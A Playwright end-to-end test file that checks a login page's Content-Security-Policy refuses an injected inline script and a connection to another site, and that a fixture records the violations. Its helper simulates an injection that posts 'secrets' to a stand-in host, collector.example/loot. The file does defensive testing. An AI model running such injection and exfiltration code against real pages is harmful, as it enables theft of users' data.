import type { Page } from '@playwright/test';
import { expect, test } from '../../../tooling/e2e-fixtures';
import { LoginPage } from './pages/login-page';

/** What an injection would try: run an inline script, send what it found to another site. */
async function violateThePolicy(page: Page) {
  return page.evaluate(async () => {
    const script = document.createElement('script');
    script.textContent = 'window.injectedScriptRan = true;';
    document.body.append(script);
    return fetch('https://collector.example/loot', { method: 'POST', body: 'secrets' }).then(
      () => 'sent',
      () => 'refused',
    );
  });
}

test("the page's Content-Security-Policy refuses an injected script and a connection to another site, and the journeys' fixture collects both", async ({
  page,
  cspViolations,
}) => {
  const login = new LoginPage(page);
  await login.goto();
  await expect(login.signInButton()).toBeVisible();

  expect(await violateThePolicy(page)).toBe('refused');

  // Each refusal arrives as the page's violation event and as Chromium's console lines.
  const expected = [
    expect.stringMatching(/^connect-src refused https:\/\/collector\.example\/loot at /),
    expect.stringMatching(/^script-src-elem refused inline at /),
    expect.stringMatching(/^Executing inline script violates .*script-src 'self'/),
    expect.stringMatching(/collector\.example\/loot.*violates .*Content Security Policy/),
  ];
  await expect.poll(() => cspViolations).toEqual(expect.arrayContaining(expected));
  cspViolations.splice(0);
  expect(await page.evaluate(() => 'injectedScriptRan' in window)).toBe(false);
});

test.fail(
  'a violation the journey did not expect fails it after it ran',
  async ({ page, cspViolations }) => {
    const login = new LoginPage(page);
    await login.goto();
    await expect(login.signInButton()).toBeVisible();

    await violateThePolicy(page);

    // Everything the journey checks passes; the fixture fails it when the journey ends.
    await expect.poll(() => cspViolations.length).toBeGreaterThanOrEqual(2);
  },
);
